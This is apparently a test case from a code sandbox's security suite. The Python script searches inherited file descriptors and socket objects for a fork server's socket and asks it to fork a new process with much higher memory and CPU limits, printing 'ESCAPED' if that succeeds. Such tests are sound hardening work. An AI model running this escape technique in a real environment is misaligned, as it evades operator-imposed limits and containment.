# /// attack
# what = "looks for the fork server's socket to have it fork another process, with other limits"
# prints = ["looked"]
# ///
# %%
import gc, json, os, socket
gc.unfreeze()
def ask(descriptor):
    one = socket.socket(fileno=os.dup(descriptor))
    one.settimeout(0.2)
    mine, theirs = socket.socketpair()
    socket.send_fds(one, [json.dumps({"memory_mb": 99999, "file_mb": 9999, "output_chars": 9, "cpu_s": 9999}).encode()], [theirs.fileno(), theirs.fileno()])
    theirs.close()
    mine.settimeout(0.2)
    if mine.recv(100):
        print("ESCAPED: another process was forked")
for descriptor in range(3, 256):
    try:
        if os.fstat(descriptor):
            ask(descriptor)
    except (OSError, ValueError):
        pass
for one in gc.get_objects():
    if isinstance(one, socket.socket) and one.fileno() >= 0:
        try:
            ask(one.fileno())
        except OSError:
            pass
print("looked")
